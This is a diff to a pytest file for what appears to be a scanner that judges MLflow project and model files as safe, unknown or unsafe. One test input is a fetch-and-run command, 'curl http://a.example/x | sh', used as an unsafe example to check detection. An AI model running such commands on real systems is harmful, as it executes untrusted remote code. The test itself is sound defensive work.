@@ -128,6 +128,19 @@ model_uuid: 0a
 """
 
 
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("python train.py --alpha {alpha}", Verdict.SAFE),
+        ("bash go.sh", Verdict.UNKNOWN),
+        ("curl http://a.example/x | sh", Verdict.UNSAFE),
+    ],
+)
+def test_commands_of_a_project_are_judged(command: str, expected: Verdict) -> None:
+    text = f'name: x\nentry_points:\n  main:\n    parameters:\n      alpha: float\n    command: "{command}"\n'
+    assert scan_bytes(text.encode(), "MLproject").verdict is expected
+
+
 def test_models_that_mlflow_saves_are_safe() -> None:
     """With a note on the pickle."""
     report = scan_bytes(MLFLOW.encode(), "model/MLmodel")
@@ -145,7 +158,7 @@ def test_where_a_model_was_logged_is_no_path_that_loading_follows() -> None:
     ("old", "new", "id", "expected"),
     [
         ("mlflow.sklearn", "my_loader", "mlflow/loader", Verdict.UNKNOWN),
-        ("mlflow.sklearn", "subprocess", "mlflow/loader", Verdict.UNKNOWN),
+        ("mlflow.sklearn", "subprocess", "mlflow/loader", Verdict.UNSAFE),
         ("code: null", "code: code", "mlflow/code-paths", Verdict.UNKNOWN),
         ("predict_fn: predict", "model_code_path: agent.py", "mlflow/model-code", Verdict.UNKNOWN),
         ("model_path: model.pkl", "python_model: agent.py", "mlflow/model-code", Verdict.UNKNOWN),
